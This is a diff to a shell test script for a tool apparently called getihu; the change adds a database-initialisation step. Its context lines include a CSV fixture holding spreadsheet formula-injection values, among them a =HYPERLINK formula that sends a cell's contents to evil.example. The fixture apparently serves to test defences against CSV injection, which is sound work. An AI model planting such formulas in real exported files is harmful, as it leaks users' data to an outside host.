@@ -10,6 +10,7 @@ trap 'rm -rf "$tmp"' EXIT
 fail() { echo "FAIL: $*"; exit 1; }
 command -v unzip > /dev/null || fail "unzip is missing (scripts/deps.sh --test installs it)"
 export GETIHU_DB=$tmp/t.db GETIHU_ACTOR=test
+"$g" db init > /dev/null || { echo "FAIL: getihu db init"; exit 1; }
 cat > "$tmp/reg.csv" <<'CSV'
 uscc,name,established,status,town
 92110115MA00001014,"=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",2015-05-12,在营,=1+1镇
